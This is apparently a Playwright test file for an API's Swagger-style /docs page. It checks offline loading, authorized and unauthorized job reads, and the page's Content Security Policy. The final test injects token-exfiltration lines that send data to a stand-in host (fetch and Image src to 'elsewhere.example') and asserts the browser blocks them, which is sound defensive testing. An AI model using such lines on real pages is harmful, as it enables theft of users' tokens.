"""`/docs`, as a person uses it: complete without the internet, and no place from which a token can go."""

import json

import pytest
from playwright.sync_api import ConsoleMessage, Page, Request, expect

from apilab import Lab

READ = "#operations-jobs-getJob"


def opened(page: Page, lab: Lab) -> Page:
    page.goto(f"{lab.url}/docs")
    expect(page.locator(READ)).to_be_visible()
    return page


def authorized(page: Page, token: str) -> None:
    page.get_by_role("button", name="Authorize").click()
    page.locator(".auth-container input").fill(token)
    page.locator(".auth-btn-wrapper .authorize").click()
    page.locator(".auth-btn-wrapper .btn-done").click()


def read(page: Page, job: str) -> tuple[str, str]:
    """Status and body that the page shows after "Try it out" on `GET /jobs/{jobId}`."""
    operation = page.locator(READ)
    operation.locator(".opblock-summary-control").click()
    operation.get_by_role("button", name="Try it out").click()
    operation.locator("tr[data-param-name=job_id] input").fill(job)
    operation.get_by_role("button", name="Execute").click()
    answer = operation.locator(".live-responses-table .response")
    return answer.locator(".response-col_status").inner_text(), answer.locator("code").first.inner_text()


def test_all_of_the_page_comes_from_the_api(page: Page, lab: Lab) -> None:
    asked: list[Request] = []
    said: list[ConsoleMessage] = []
    page.on("request", lambda request: asked.append(request))
    page.on("console", lambda message: said.append(message))
    opened(page, lab)
    page.wait_for_load_state("networkidle")

    documented = json.loads(lab.editor.get("/openapi.json").text)["paths"]
    operations = sum(len(methods) for methods in documented.values())
    assert page.locator(".opblock").count() == operations
    assert len(asked) >= 4, "the page, its style, its script, the document"
    assert [request.url for request in asked if not request.url.startswith((lab.url, "data:"))] == []
    assert [message.text for message in said if message.type == "error"] == []


def test_a_person_reads_a_job(page: Page, lab: Lab) -> None:
    lab.created("on-the-page")
    opened(page, lab)
    authorized(page, lab.editor_token)
    status, body = read(page, "on-the-page")

    assert status.split()[0] == "200"
    assert json.loads(body)["id"] == "on-the-page"


def test_without_a_token_the_page_shows_the_refusal(page: Page, lab: Lab) -> None:
    status, body = read(opened(page, lab), "any")

    assert status.split()[0] == "401"
    assert json.loads(body)["error"]["code"] == "UNAUTHENTICATED"


@pytest.mark.parametrize(
    ("code", "directive"),
    [
        ("fetch('https://elsewhere.example/?token=x').catch(() => 0)", "connect-src"),
        ("new Image().src = 'https://elsewhere.example/?token=x'", "img-src"),
        (
            "document.head.append(Object.assign(document.createElement('script'), {text: '1'}))",
            "script-src-elem",
        ),
    ],
)
def test_nothing_on_the_page_can_reach_elsewhere(page: Page, lab: Lab, code: str, directive: str) -> None:
    """The browser refuses it by the page's policy, before any network is asked."""
    opened(page, lab)
    refused = page.evaluate(
        f"""() => new Promise((done, never) => {{
            document.addEventListener("securitypolicyviolation", event => done(event.effectiveDirective));
            setTimeout(() => never(new Error("nothing was refused")), 5000);
            {code};
        }})"""
    )

    assert refused == directive
